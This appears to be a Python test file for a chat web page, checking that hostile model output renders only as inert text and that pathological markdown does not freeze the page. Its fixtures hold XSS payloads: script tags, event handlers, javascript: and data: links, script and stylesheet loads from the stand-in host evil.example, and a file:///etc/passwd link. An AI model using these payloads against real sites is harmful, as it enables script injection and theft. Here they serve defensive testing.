"""Model text is only ever text: whatever a completion holds, nothing runs, loads or breaks the page."""

import time
from typing import Any
from urllib.parse import urlsplit

from scripted import Reply, Scripted

OUTSIDE = "http://evil.example"
RUN = "document.title='run';window.__seen.push('ran')"
HOSTILE = {
    "script": f"<script>{RUN}</script><script src={OUTSIDE}/a.js></script>",
    "script end": f"</script></textarea></title></style></math><script>{RUN}</script>",
    "onerror": f'<img src=x onerror="{RUN}"><svg onload="{RUN}"><img src={OUTSIDE}/b.png><body onload={RUN}>',
    "frames": f"<iframe src='javascript:{RUN}'></iframe><object data={OUTSIDE}/c></object><embed src={OUTSIDE}/d>",
    "javascript link": f"[click](javascript:{RUN}) [c](JaVaScRiPt:{RUN}) <javascript:{RUN}> [x](<java\tscript:{RUN}>)",
    "encoded link": "[a](javascript&#58;alert(1)) [c](%6Aavascript:alert(1)) [d](\x01javascript:1)",
    "reference": f"[a][1] [1] [2] [b][2]\n\n[1]: javascript:{RUN}\n[2]: data:text/html,<script>alert(1)</script>",
    "data link": "[d](data:text/html,<script>alert(1)</script>) [e](vbscript:x) [f](file:///etc/passwd) [h](//x)",
    "pictures": f"![p]({OUTSIDE}/e.png) ![q](data:image/svg+xml,<svg/onload=x>) [![r]({OUTSIDE}/f.png)]({OUTSIDE}/g)",
    "styles": f"<style>@import url({OUTSIDE}/h.css);</style><link rel=stylesheet href={OUTSIDE}/i.css><p style='x'>",
    "forms": f'<form action={OUTSIDE}/j><input autofocus onfocus="{RUN}"></form><meta http-equiv=refresh content=0>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#0; &#x110000; &#xD800;",
    "maths": f"$\\text{{<img src=x onerror={RUN}>}}$ $\\href{{javascript:{RUN}}}{{x}}$ $$\\style{{x}}{{y}}$$",
    "code": f'```html"><img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```\n`<script>{RUN}</script>`',
    "table": f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |",
    "broken": "**bold *both __under `code\n```\n> - 1. | a\n|--|\n$$ \\frac{ \\[ \\( ![ [b](http:// <http:// &#; \\",
    "bidi": "safe \u202e)txt.exe\u202c and `\u2066if\u2069`",
    "surrogates": "half \ud83d and zero \x00\x08\x1b[31m \ufeff \uffff",
}


def test_hostile_text_stays_text(page: Any, server: Scripted) -> None:
    page.requested()

    def check(name: str) -> None:
        page.js("document.querySelectorAll('details').forEach((d) => d.open = true)")
        page.until(lambda: not page.js("return [...document.querySelectorAll('.thinking .markdown:empty')].length"))
        foreign = ":is(script,img,iframe,object,embed,style,link,meta,base,[onload],[onerror])"
        assert page.all(f"#messages {foreign}") == [], name
        links = page.js("return [...document.querySelectorAll('#messages a')].map((a) => [a.href, a.rel, a.target])")
        for href, rel, target in links:
            assert urlsplit(href).scheme in ("http", "https", "mailto"), name
            assert (rel, target) == ("noopener noreferrer", "_blank"), name
        assert {urlsplit(address).netloc for address in page.requested()} <= {urlsplit(server.url).netloc, ""}, name
        assert page.seen() == [] and page.driver.title.endswith("– Luciola"), name

    for number, (name, text) in enumerate(HOSTILE.items(), 1):
        server.replies = [Reply(text, text, piece=7)]
        page.send(text.encode("utf-16", "surrogatepass").decode("utf-16", "replace"))
        page.until(lambda number=number: len(page.all(".assistant")) == number)
        page.done()
        check(name)
    page.open()  # what is kept is as harmless when it comes back
    assert len(page.all(".assistant")) == len(HOSTILE)
    check("reload")


def test_characters_that_reorder_the_line_are_shown(page: Any, server: Scripted) -> None:
    server.replies = [Reply(HOSTILE["bidi"])]
    assert page.ask("?") == "safe ⟨U+202E⟩)txt.exe⟨U+202C⟩ and ⟨U+2066⟩if⟨U+2069⟩"


LONG = {
    "one word": "x" * 100_000,
    "one line": "word " * 20_000,
    "quotes": "> " * 20_000 + "deep",
    "lists": "- " * 20_000 + "deep",
    "nested lists": "".join("  " * i + "- item\n" for i in range(300)),
    "nested emphasis": "*a **b " * 10_000 + "c** d*" * 10_000,
    "asterisks": "**" * 50_000,
    "unmatched emphasis": "_a*" * 30_000,
    "brackets": "[" * 100_000,
    "half links": "[a](" * 25_000,
    "nested links": "[" * 5000 + "a" + "](http://x.example)" * 5000,
    "references": "[a][1] " * 5000 + "\n\n" + "".join(f"[{i}]: http://x.example\n" for i in range(5000)),
    "backticks": "".join("`" * i + " " for i in range(1, 440)),
    "dollars": "$" * 100_001,
    "half maths": "$a " * 30_000,
    "half brackets of maths": "\\(" * 50_000,
    "maths groups": "$" + "{" * 4000 + "}" * 4000 + "$",
    "maths fractions": "$$" + "\\frac{1}{" * 800 + "}" * 800 + "$$",
    "maths roots": "$$" + "\\sqrt" * 1500 + "$$",
    "maths fences": "$$" + "\\left(" * 1300 + "$$",
    "maths styles": "$$" + "\\displaystyle" * 600 + "$$",
    "maths matrices": "$$" + "\\begin{matrix}" * 500 + "$$",
    "fence": "```" + "`" * 50_000 + " x" * 20_000,
    "fence's name": "``` " + "a" * 100_000 + "`",
    "comments": "```js\n" + "/*" * 50_000,
    "heading": "# " + " #" * 50_000 + "x",
    "table": "|" * 50_000 + "\n" + "|-" * 25_000 + "|",
    "address": "https://a.example/" + ")" * 100_000,
    "ampersands": "&" * 100_000,
    "angles": "<" * 100_000,
    "items": "-\n" * 20_000,
    "spaces": "- " + " " * 100_000 + "x",
    "lines": "a\n" * 10_000,
}


def test_no_text_freezes_the_page(page: Any, server: Scripted) -> None:
    deepest = """let deepest = 0; const walk = document.createTreeWalker(document.getElementById('messages'));
    for (let n = walk.currentNode, d; n; n = walk.nextNode()) { d = 0; for (let m = n; m; m = m.parentNode) d++;
    if (d > deepest) deepest = d; if (d > 1000) break; } return deepest"""
    for name, text in LONG.items():
        page.one("#new").click()
        server.replies = [Reply(text, piece=len(text) // 3 + 1)]
        start = time.monotonic()
        page.send("Go")
        page.done(30)
        page.js("return document.body.offsetHeight")
        # Seconds, on a busy machine; what grows with the square of the length takes minutes.
        assert time.monotonic() - start < 20, name
        assert len(page.answers()) == 1 and page.js(deepest) < 400, name


def test_a_long_answer_stays_fluid(page: Any, server: Scripted) -> None:
    words = (
        "Some *words* of an answer with `code` and $x^2$ in a paragraph that is not short.\n\n- an item\n- another\n\n"
    )
    text = (words + "```python\nfor i in range(3):\n    print(i)\n```\n\n") * 400
    server.replies = [Reply(text, piece=len(text) // 2000 + 1, delay=0.001)]
    page.send("Go")
    longest = page.driver.execute_async_script(
        """const done = arguments[0]; let last = performance.now(), longest = 0;
        (function frame() { const now = performance.now(); longest = Math.max(longest, now - last); last = now;
        document.getElementById('stop').hidden ? done(longest) : requestAnimationFrame(frame); })()"""
    )
    assert page.text(".assistant").count("print") == 400
    assert longest < 1000, "ms between two frames, on a busy machine"
